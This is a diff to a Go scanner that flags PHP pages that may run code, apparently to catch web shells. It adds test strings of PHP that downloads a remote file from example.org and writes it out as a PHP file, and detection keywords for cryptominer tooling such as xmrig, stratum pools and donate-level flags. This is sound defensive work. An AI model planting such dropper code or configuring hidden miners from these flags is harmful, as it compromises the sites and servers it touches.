@@ -39,6 +39,8 @@ func TestPHPMayRun(t *testing.T) {
 		{`<?php call_user_func_array($f, $a);`, true},
 		{`<?php $in = file_get_contents('php://input');`, true},
 		{`<?php $h = getenv('HTTP_X');`, true},
+		{`<?php $d = file_get_contents('https://example.org/x'); file_put_contents('x.php', $d);`, true},
+		{`<?php $h = fopen("HTTP://example.org/x", 'r'); $o = fopen('y', 'w'); fwrite($o, fread($h, 99));`, true},
 		// clean code: longer words, other variables, namespaces
 		{`<?php $this->evaluate($expr); $retrieval = 1;`, false},
 		{`<?php $this->assertEquals(1, $x); assertTrue($y);`, false},
@@ -46,6 +48,7 @@ func TestPHPMayRun(t *testing.T) {
 		{`<?php use Foo\Xml\Parser; $p = new \XMLReader();`, false},
 		{`<?php $_name = 'x'; $_ = 1; $_getter = 2;`, false},
 		{`<?php echo "hello";`, false},
+		{`<?php echo '<a href="https://example.org/">home</a>';`, false}, // a link, no file written
 	} {
 		if got := phpMayRun([]byte(c.page)); got != c.want {
 			t.Errorf("phpMayRun(%q) = %v, want %v", c.page, got, c.want)
@@ -143,10 +146,18 @@ var (
 	slowRunners = [][]byte{[]byte("create_function"), []byte("preg_replace"), []byte("base64_decode"),
 		[]byte("gzinflate"), []byte("gzuncompress"), []byte("gzdecode"), []byte("str_rot13"), []byte("strrev"), []byte("hex2bin"),
 		[]byte("chr("), []byte("uudecode"), []byte("call_user_func"),
+		[]byte("stratum+"), []byte("stratum1+"), []byte("stratum2+"), []byte("--donate-level"), []byte("randomx"),
+		[]byte("--cpu-max-threads-hint"), []byte("--max-cpu-usage"), []byte("--cpu-priority"), []byte("--nicehash"),
+		[]byte("rx/0"), []byte("cryptonight"), []byte("xmrig"),
 		[]byte("php://"), []byte("getallheaders"), []byte("apache_request_headers"), []byte("filter_input"), []byte("getenv")}
 	// slowRunnerWords are runners matched as whole words: "pack" only where "(" follows
 	slowRunnerWords = [][]byte{[]byte("eval"), []byte("assert"), []byte("pack(")}
+	// slowWordEnds are matched with no identifier byte after them
+	slowWordEnds = [][]byte{[]byte("--coin")}
 )
+
+// slowURLs are remote URL literals, counted in a page that writes a file
+var slowURLs = [][]byte{[]byte("'http://"), []byte("'https://"), []byte("'ftp://"), []byte(`"http://`), []byte(`"https://`), []byte(`"ftp://`)}
 
 var slowVarCall = regexp.MustCompile(`\$(?:[A-Za-z0-9_]|[^\x00-\x7f])+[ \t]*\(`)
 
@@ -173,6 +184,11 @@ func phpMayRunSlow(data []byte) bool {
 			off = i + 1
 		}
 	}
+	for _, u := range slowURLs {
+		if bytes.Contains(bytes.ToLower(data), u) && writesFile(data) {
+			return true
+		}
+	}
 	for rest := data; ; {
 		i := bytes.Index(rest, []byte("$_"))
 		if i < 0 {
@@ -196,6 +212,18 @@ func phpMayRunSlow(data []byte) bool {
 	for _, w := range slowRunnerWords {
 		if slowContainsWord(*low, w) {
 			return true
+		}
+	}
+	for _, w := range slowWordEnds {
+		for off := 0; ; {
+			i := bytes.Index((*low)[off:], w)
+			if i < 0 {
+				break
+			}
+			if !slowIdentByte(slowByteAt(*low, off+i+len(w))) {
+				return true
+			}
+			off += i + 1
 		}
 	}
 	// \x41 (PHP reads one or two hex digits): a character escape, not a namespace's \Xml
